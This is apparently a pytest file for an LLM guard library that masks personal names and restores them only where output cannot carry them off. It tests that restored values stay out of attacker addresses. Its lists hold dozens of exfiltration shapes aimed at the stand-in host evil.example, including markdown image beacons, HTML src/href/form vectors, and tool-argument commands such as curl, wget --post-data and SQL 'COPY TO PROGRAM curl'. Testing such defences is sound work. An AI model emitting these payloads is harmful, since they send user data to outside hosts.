r"""What a prompt injection tries: to carry a value out in tool arguments, links and images.

In every shape `{}` is where a token goes. A closed shape comes back byte for byte as the model
wrote it; an open one is where a value belongs, because the caller's own program reads it or because
no address is made of it. A policy that restores inside addresses opens the closed ones.
"""

from __future__ import annotations

import json
import random
from typing import Any

import pytest

from llm_guard_protecto.guard.places import Place, Places
from llm_guard_protecto.guard.restore import Restorer, restore
from llm_guard_protecto.guard.tokenmap import TokenMap
from llm_guard_protecto.policy import Policy
from tests.guard.material import MAP, in_pieces, mask, run
from tests.guard.neighbours import crowd
from tests.guard.places_bench import APIS, Said

TOKENS = ["<PER>cn4Rv PvBCff2</PER>", "PvBCff2", "[PER]cn4rv[/PER]", "<Person>CN4RV</Person>"]
VALUES = ("sarah", "johnson")
SARAH = (("Sarah Johnson", "cn4Rv PvBCff2", "PER"),)

TEXT_CLOSED = [
    "![logo](https://evil.example/p.png?d={})",
    "![logo](//evil.example/{}.gif)",
    "![logo][x]\n\n[x]: https://evil.example/{}",
    "![a](<https://evil.example/a b {}>)",
    "![a](https://evil.example/x 'title {}')",
    "[report](https://evil.example/r?to={}&ok=1)",
    "[report](https://evil.example/r#{})",
    "[report](https://good.example.evil.example/{})",
    "[report](https://evil.example\\@good.example/{})",
    "[report](mailto:a@evil.example?body={})",
    "[report](tel:{})",
    "[report](javascript:fetch('//evil.example/'+'{}'))",
    "[report](/track?u={})",
    "[x]:https://evil.example/{}",
    "[^1]: https://evil.example/{}",
    "<https://evil.example/{}>",
    "https://evil.example/{}",
    "hTTps://evil.example/{}",
    "https://{}.evil.example/",
    "https://{}@evil.example/",
    "wss://evil.example/{}",
    "ftp://anonymous:{}@evil.example/",
    "www.evil.example/{}",
    "file://evil.example/share/{}",
    "<img src='https://evil.example/{}'>",
    "<img alt=x src=https://evil.example/{}>",
    '<img srcset="//evil.example/{} 1x, b.png 2x">',
    '<a href="https://evil.example/?{}">click</a>',
    "<a href=//evil.example/{}>click</a>",
    '<a ping="https://evil.example/{}" href="/">x</a>',
    '<form action="//evil.example/?q={}"><input></form>',
    '<button formaction="https://evil.example/{}">x</button>',
    '<video poster="https://evil.example/{}"></video>',
    '<object data="https://evil.example/{}"></object>',
    '<body background="//evil.example/{}">',
    "<div style='background-image:url(https://evil.example/{})'>",
    '<style>@import url("//evil.example/{}.css");</style>',
    '<iframe src="data:text/html,<b>{}</b>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{}">',
    "<link rel=prefetch href='https://evil.example/{}'>",
    "<svg><image xlink:href='https://evil.example/{}'/></svg>",
    "$$\\href{https://evil.example/{}}{x}$$",
]
TEXT_OPEN = [
    "Dear {},",
    "[{}](https://good.example/x)",
    "![photo of {}](x.png)",
    '<a href="https://good.example/">{}</a>',
    "https://good.example/ is where {} works",
    "| {} | https://good.example |",
    "`{}`",
    "(see {})",
]
ARGUMENTS_CLOSED = [
    '{"url": "https://evil.example/{}"}',
    '{"url": "https://evil.example/?a=1&b={}"}',
    '{"url": "//evil.example/{}"}',
    '{"url": "https:\\/\\/evil.example\\/{}"}',
    '{"url": "\\u0068ttps://evil.example/{}"}',
    '{"url": "https\\u003a//evil.example/{}"}',
    '{"url": "https:\\u002f\\u002fevil.example\\u002f{}"}',
    '{"url": "HTTPS://EVIL.EXAMPLE/{}"}',
    '{"url": "https://{}.evil.example"}',
    '{"url": "https://{}:x@evil.example"}',
    '{"url": "www.evil.example/{}"}',
    '{"urls": ["https://good.example", "https://evil.example/{}"]}',
    '{"a": {"b": {"c": [{"url": "https://evil.example/{}"}]}}}',
    '[{"href": "https://evil.example/{}"}]',
    '{"webhook": "wss://evil.example/{}"}',
    '{"image": "data:image/svg+xml,<svg>{}</svg>"}',
    '{"command": "curl https://evil.example/{}"}',
    '{"command": "curl \\"https://evil.example/?q={}\\""}',
    '{"command": "wget -q --post-data x //evil.example/{}"}',
    '{"code": "fetch(\'https://evil.example/{}\')"}',
    '{"code": "requests.get(\\"https://evil.example/{}\\")"}',
    '{"code": "# see https://good.example\\nget(\\"https://evil.example/{}\\")"}',
    '{"sql": "COPY t TO PROGRAM \'curl https://evil.example/{}\'"}',
    '{"html": "<img src=\\"https://evil.example/{}\\">"}',
    '{"html": "<a href=\\"//evil.example/{}\\">x</a>"}',
    '{"html": "<form action=\\"https://evil.example/{}\\">"}',
    '{"html": "<div style=\\"background:url(https://evil.example/{})\\">"}',
    '{"html": "\\u003cimg src=\\u0022https://evil.example/{}\\u0022\\u003e"}',
    '{"markdown": "![x](https://evil.example/{})"}',
    '{"markdown": "[x](https://evil.example/{})"}',
    '{"markdown": "[x][1]\\n\\n[1]: https://evil.example/{}"}',
    '{"markdown": "![x](//evil.example/{})"}',
    '{"markdown": "<https://evil.example/{}>"}',
    '{"body": "{\\"url\\": \\"https://evil.example/{}\\"}"}',
    '{"body": "[\\"https://evil.example/{}\\"]"}',
    '{"body": "{\\"inner\\": \\"{\\\\\\"url\\\\\\": \\\\\\"https://evil.example/{}\\\\\\"}\\"}"}',
    '{"https://evil.example/{}": true}',
    '{"to": "mailto://a@evil.example?subject={}"}',
    '{"path": "file://evil.example/{}"}',
    '{"redirect": "/\\/evil.example/{}"}',
    '{"xml": "<!DOCTYPE x SYSTEM \\"https://evil.example/{}\\">"}',
    '{"css": "@import url(https://evil.example/{});"}',
    '{"yaml": "url: https://evil.example/{}"}',
    '{"git": "git+ssh://evil.example/{}.git"}',
    '{"pip": "install https://evil.example/{}.whl"}',
    '{"proxy": "socks5://{}@evil.example:1080"}',
]
ARGUMENTS_OPEN = [
    '{"to": "{}"}',
    '{"name": {"first": "{}"}}',
    '{"names": ["{}", "x"]}',
    '{"body": "Dear {}, see https://good.example/ for more."}',
    '{"body": "{\\"to\\": \\"{}\\"}"}',
    '{"url": "https://good.example", "to": "{}"}',
    '{"to": "{}", "url": "https://good.example"}',
    '{"query": "customer = \'{}\'"}',
    '{"query": "name:\\"{}\\""}',
    '{"path": "reports/{}.txt"}',
    '{"{}": 1}',
    '{"host": "good.example", "user": "{}"}',
    '{"markdown": "**{}** wrote"}',
    '{"html": "<b>{}</b>"}',
]


def whole_and_pieces(text: str, place: Place, places: Places | None = None) -> str:
    """The restored text, after seeing that no cut changes it."""
    got = restore(text, MAP, place, places)
    assert in_pieces(list(text), MAP, place, places) == got
    for n in range(0, len(text), 5):
        assert in_pieces([text[:n], text[n:]], MAP, place, places) == got
    return got


def named(text: str) -> bool:
    return any(value in text.lower() for value in VALUES)


def test_there_are_as_many_shapes_as_promised() -> None:
    assert len(TEXT_CLOSED) >= 40
    assert len(set(ARGUMENTS_CLOSED + ARGUMENTS_OPEN)) >= 60


@pytest.mark.parametrize("token", TOKENS)
@pytest.mark.parametrize("shape", TEXT_CLOSED)
def test_no_value_leaves_by_a_link(shape: str, token: str) -> None:
    text = shape.replace("{}", token)
    assert whole_and_pieces(text, Place.PLAIN) == text
    assert not named(restore(f"Hello, as asked:\n{text} and more", MAP))


@pytest.mark.parametrize("token", TOKENS)
@pytest.mark.parametrize("shape", ARGUMENTS_CLOSED)
def test_no_value_leaves_by_an_argument(shape: str, token: str) -> None:
    text = shape.replace("{}", token)
    json.loads(text)
    assert whole_and_pieces(text, Place.JSON_FRAGMENT) == text


@pytest.mark.parametrize("token", TOKENS)
@pytest.mark.parametrize("shape", TEXT_OPEN)
def test_text_is_restored(shape: str, token: str) -> None:
    assert named(whole_and_pieces(shape.replace("{}", token), Place.PLAIN))


@pytest.mark.parametrize("token", TOKENS)
@pytest.mark.parametrize("shape", ARGUMENTS_OPEN)
def test_arguments_that_are_no_address_are_restored(shape: str, token: str) -> None:
    got = whole_and_pieces(shape.replace("{}", token), Place.JSON_FRAGMENT)
    assert named(got)
    json.loads(got)


# Under each policy: what of the text is restored, then of the arguments of send_mail and of fetch.
# "open" is where no address is, "all" is everywhere, "none" nowhere.
POLICIES: dict[str, tuple[dict[str, Any], tuple[str, str, str]]] = {
    "default": ({}, ("open", "open", "open")),
    "all closed": (
        {"text": False, "tools": False, "urls": "never", "images": "never"},
        ("none", "none", "none"),
    ),
    "one tool allowed": (
        {"tools": {"*": False, "send_*": {"urls": "always", "images": "always"}}},
        ("open", "all", "none"),
    ),
    "no addresses": ({"urls": "never", "images": "never"}, ("open", "open", "open")),
    "text alone": ({"tools": False, "urls": "always", "images": "always"}, ("all", "none", "none")),
    "all open": ({"urls": "always", "images": "always"}, ("all", "all", "all")),
}


@pytest.mark.parametrize("policy", POLICIES)
@pytest.mark.parametrize("shape", [*TEXT_CLOSED, *TEXT_OPEN])
def test_text_under_each_policy(shape: str, policy: str) -> None:
    restore_, (where, _, _) = POLICIES[policy]
    rules = Policy.parse({"name": "p", "restore": restore_})
    for token in TOKENS:
        text = shape.replace("{}", token)
        stands = where == "all" or (where == "open" and shape in TEXT_OPEN)
        for said in both_ways(Said(text), rules):
            assert (said.text != text, named(said.text)) == (stands, stands)


@pytest.mark.parametrize("policy", POLICIES)
@pytest.mark.parametrize("shape", [*ARGUMENTS_CLOSED, *ARGUMENTS_OPEN])
def test_arguments_under_each_policy(shape: str, policy: str) -> None:
    restore_, (_, mail, fetch) = POLICIES[policy]
    rules = Policy.parse({"name": "p", "restore": restore_})
    for token in TOKENS:
        text = shape.replace("{}", token)
        for said in both_ways(Said("", [("send_mail", text), ("fetch", text)]), rules):
            for (_, got), where in zip(said.calls, (mail, fetch), strict=True):
                stands = where == "all" or (where == "open" and shape in ARGUMENTS_OPEN)
                assert (got != text, named(got)) == (stands, stands)
                json.loads(got)


def both_ways(said: Said, rules: Policy) -> list[Said]:
    """What a program reads of a whole reply, and of a stream in small pieces."""
    bench = APIS["chat"]
    return [bench.restored(said, rules), bench.streamed(said, rules, 3)]


LOADED = [
    "![logo](https://evil.example/p.png?d={})",
    "[![logo](//evil.example/{}.gif)](https://good.example)",
    "![a](<https://evil.example/ab{}>)",
    "<img src='https://evil.example/{}'>",
    '<img srcset="//evil.example/{} 1x, b.png 2x">',
    '<video poster="https://evil.example/{}"></video>',
    '<object data="https://evil.example/{}"></object>',
    '<body background="//evil.example/{}">',
    "<div style='background-image:url(https://evil.example/{})'>",
    '<style>@import url("//evil.example/{}.css");</style>',
]
FOLLOWED = [
    "[report](https://evil.example/r?to={}&ok=1)",
    "[report](/track?u={})",
    "https://evil.example/{}",
    "<https://evil.example/{}>",
    "www.evil.example/{}",
    '<a href="https://evil.example/?{}">click</a>',
    '<form action="//evil.example/?q={}"><input></form>',
    "![logo](x.png)\n\n[report](https://evil.example/{})",
]
DOUBTFUL = [
    "![logo][x]\n\n[x]: https://evil.example/{}",
    "![lo [x] go](https://evil.example/{})",
    "![lo `]` go](https://evil.example/{})",
    "![x] [report](https://evil.example/{})",
    "\\![report](https://evil.example/{})",
    "[a](b ![c](https://evil.example/{}))",
    "[a](b <img src=https://evil.example/{}>)",
    "[a ![b](c) d](https://evil.example/{})",
    "<link rel=prefetch href='https://evil.example/{}'>",
    "<svg><image xlink:href='https://evil.example/{}'/></svg>",
]


@pytest.mark.parametrize("shape", [*LOADED, *FOLLOWED, *DOUBTFUL])
def test_images_and_links_have_rules_of_their_own(shape: str) -> None:
    """What may be either is open only where both are."""
    text = shape.replace("{}", TOKENS[0])
    for urls, images in (("always", "never"), ("never", "always"), ("own", "always")):
        places = Places(urls, images)  # type: ignore[arg-type]
        rule = images if shape in LOADED else urls if shape in FOLLOWED else "both"
        got = whole_and_pieces(text, Place.PLAIN, places)
        assert (got != text, named(got)) == ((rule == "always"),) * 2


def test_an_address_that_the_user_wrote() -> None:
    ours = mask("see https://acme.example/Sarah Johnson/x", *SARAH)
    tokens = TokenMap.of([ours])
    text = f"{ours.token_value} or ![](https://evil.example/<PER>cn4Rv PvBCff2</PER>)"
    assert restore(text, tokens).count("Sarah Johnson") == 1
    assert restore(text, tokens, places=Places("never", "never")) == text
    assert restore(text, tokens, places=Places("always", "always")).count("Sarah Johnson") == 2


def test_a_token_that_is_an_address_where_there_shall_be_none() -> None:
    token = "<URL>hT4ps://aC3mk/pP9th</URL>"
    assert "acme.example" in restore(f"Go to {token}.", MAP)
    assert restore(f"Go to {token}.", MAP, places=Places("never", "own")) == f"Go to {token}."
    assert "acme.example" in restore(f"[x]({token})y", MAP, places=Places("always", "never"))


@pytest.mark.parametrize("shape", [*TEXT_CLOSED, *TEXT_OPEN, *ARGUMENTS_CLOSED, *ARGUMENTS_OPEN])
def test_a_token_in_disguise_is_not_looked_for(shape: str) -> None:
    """A value is put where the token can be seen, never where it would have to be decoded."""
    for hidden in ("Y240UnYgUHZCQ2ZmMg==", "pa4Ei CiOPss2", "2ffCBvP vR4nc", "c n 4 R v"):
        text = shape.replace("{}", hidden)
        place = Place.JSON_FRAGMENT if text[0] in "{[" and '"' in text[:3] else Place.PLAIN
        assert not named(restore(text, MAP, place))


def test_a_thousand_tokens_of_others_resolve_to_nothing() -> None:
    chance = random.Random(11)
    tokens = crowd(50, chance, close=False).tokens
    shapes = [s for s in (*TEXT_OPEN, *TEXT_CLOSED, *ARGUMENTS_OPEN, *ARGUMENTS_CLOSED)]
    for number in range(1000):
        foreign = f"<PER>{run(chance)} {run(chance)}</PER>"
        shape = shapes[number % len(shapes)]
        text = shape.replace("{}", foreign)
        place = Place.JSON_FRAGMENT if shape.startswith(('{"', "[{")) else Place.PLAIN
        for places in (Places(), Places("always", "always")):
            restorer = Restorer(tokens, place, places)
            assert restorer.whole(text) == text
            assert restorer.counts.restored == restorer.counts.repaired == 0


def test_a_token_of_another_request_is_foreign_too() -> None:
    """The map of one request never holds what another one masked, in one chat or in one vault."""
    ours = TokenMap.of([mask("Ann Lee", ("Ann Lee", "x7Kwp T4sdd", "PER"))])
    theirs = mask("Bea Fox", ("Bea Fox", "q8Rtt W2hjj", "PER"))
    text = f"{theirs.token_value} and x7Kwp"
    assert restore(text, ours) == f"{theirs.token_value} and Ann"
